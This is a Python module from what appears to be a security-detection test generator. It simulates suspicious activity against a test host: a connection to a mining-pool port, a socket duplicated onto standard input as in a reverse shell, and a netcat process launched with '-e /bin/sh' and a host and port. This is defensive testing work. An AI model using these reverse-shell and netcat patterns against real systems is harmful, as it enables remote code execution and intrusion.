"""Outbound-connection actions: they connect only to the run's test host (or --target)."""

from __future__ import annotations

from typing import Any

from tiercel.generator.base import HELPER_NAME, Context, action

MINER_PORT = 3333


def _target(ctx: Context, port: int | None = None) -> tuple[str, int]:
    if ctx.target is None:
        raise RuntimeError("no target for an outbound action")
    return (ctx.target[0], port or ctx.target[1])


def _connect(host: str, port: int, then: str = "") -> str:
    return (f"import os, socket; s = socket.create_connection(({host!r}, {port}), timeout=5); "
            f"{then}s.close()")


@action("System procs network activity", where="network")
def system_binary_connects(ctx: Context) -> dict[str, Any]:
    """A process named ls connects to the test host."""
    host, port = _target(ctx)
    pid = ctx.helper(_connect(host, port), name="ls")
    return {"proc.pid": pid, "proc.name": "ls"}


@action("Outbound connection to crypto mining pool port", where="network")
def mining_pool_connection(ctx: Context) -> dict[str, Any]:
    """Connect to port 3333 (stratum) of the test host."""
    host, _ = _target(ctx)
    pid = ctx.helper(_connect(host, MINER_PORT))
    return {"proc.pid": pid, "proc.name": HELPER_NAME}


@action("Redirect STDOUT/STDIN to network connection", where="network")
def reverse_shell_redirect(ctx: Context) -> dict[str, Any]:
    """Connect to the test host and make the socket the process's standard input."""
    host, port = _target(ctx)
    pid = ctx.helper(_connect(host, port, "os.dup2(s.fileno(), 0); "))
    return {"proc.pid": pid, "proc.name": HELPER_NAME}


@action("Netcat remote code execution")
def netcat_exec(ctx: Context) -> dict[str, Any]:
    """Start a process named nc with `-e /bin/sh HOST PORT` (it connects nowhere)."""
    host, port = ctx.target or ("192.0.2.2", 8080)
    pid = ctx.helper("pass", name="nc", args=("-e", "/bin/sh", host, str(port)))
    return {"proc.pid": pid, "proc.name": "nc"}
